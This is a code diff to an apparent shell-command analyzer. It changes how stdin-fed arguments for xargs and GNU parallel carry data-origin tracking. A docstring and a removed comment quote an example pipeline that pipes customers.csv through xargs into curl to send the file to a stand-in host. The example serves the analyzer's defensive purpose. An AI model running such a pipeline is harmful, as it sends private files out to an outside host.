@@ -151,36 +151,36 @@ def _xargs(call: _Call) -> None:
             call, argv if marker else [*inner, kept], feed=None, transparent=True
         )
         return
-    # The words xargs places come from stdin: where those bytes come from goes with them
-    # (`cat customers.csv | xargs -I{} curl "https://x/?d={}"` sends the file).
-    origin = call.feed.origin if call.feed else _Origin.NONE
-    source = call.feed.description if call.feed else ""
     for replace_string in replace_strings:
-        marker = replace_string.value
-        inner = [
-            _Word(
-                word.value.replace(marker, EXPANSION_PLACEHOLDER),
-                word.display,
-                dynamic=True,
-                origin=origin,
-                source=source,
-                expansions=("{xargs input}",),
-            )
-            if marker and marker in word.value
-            else word
-            for word in inner
-        ]
+        inner = _placed(inner, replace_string.value, call.feed, "{xargs input}")
     # The words xargs appends: unknown, and possibly many.
-    appended = _Word(
-        EXPANSION_PLACEHOLDER,
-        "{xargs input}",
-        dynamic=True,
-        glob=True,
-        origin=origin,
-        source=source,
-        expansions=("{xargs input}",),
-    )
-    call.analyzer.run_inner(call, [*inner, appended], feed=None, transparent=True)
+    appended = _placed([], "", call.feed, "{xargs input}")
+    call.analyzer.run_inner(call, [*inner, *appended], feed=None, transparent=True)
+
+
+def _placed(words: Sequence[_Word], marker: str, feed: _Feed | None, label: str) -> list[_Word]:
+    """The words xargs or parallel place from stdin (at ``marker``, or one appended when it
+    is empty): where those bytes come from goes with them (`cat customers.csv | xargs -I{}
+    curl "https://x/?d={}"` sends the file)."""
+    origin = feed.origin if feed else _Origin.NONE
+    source = feed.description if feed else ""
+    if not marker:
+        words = [_Word(EXPANSION_PLACEHOLDER, label, glob=True)]
+        marker = EXPANSION_PLACEHOLDER
+    return [
+        _Word(
+            word.value.replace(marker, EXPANSION_PLACEHOLDER),
+            word.display,
+            dynamic=True,
+            glob=word.glob,
+            origin=origin,
+            source=source,
+            expansions=(label,),
+        )
+        if marker in word.value
+        else word
+        for word in words
+    ]
 
 
 # Input items are taken as they are written only when nothing in them is quoting or escaping
@@ -226,17 +226,13 @@ def _parallel(call: _Call) -> None:
             run = line.replace("{}", item) if "{}" in line else f"{line} {item}"
             _script(call, _Word.literal(run), "parallel")
         return
-    if command:
-        appended = _Word(
-            EXPANSION_PLACEHOLDER,
-            "{parallel input}",
-            dynamic=True,
-            glob=True,
-            expansions=("{parallel input}",),
-        )
-        call.analyzer.run_inner(
-            call, [*command, *(inputs or [appended])], feed=None, transparent=True
-        )
+    if command and inputs:
+        call.analyzer.run_inner(call, [*command, *inputs], feed=None, transparent=True)
+    elif command:  # each line of stdin is placed at {} (or appended): it goes where they go
+        label = "{parallel input}"
+        placed = _placed(command, "{}", call.feed, label)
+        appended = [] if placed != command else _placed([], "", call.feed, label)
+        call.analyzer.run_inner(call, [*placed, *appended], feed=None, transparent=True)
     else:
         for script in inputs:
             _script(call, script, "parallel")
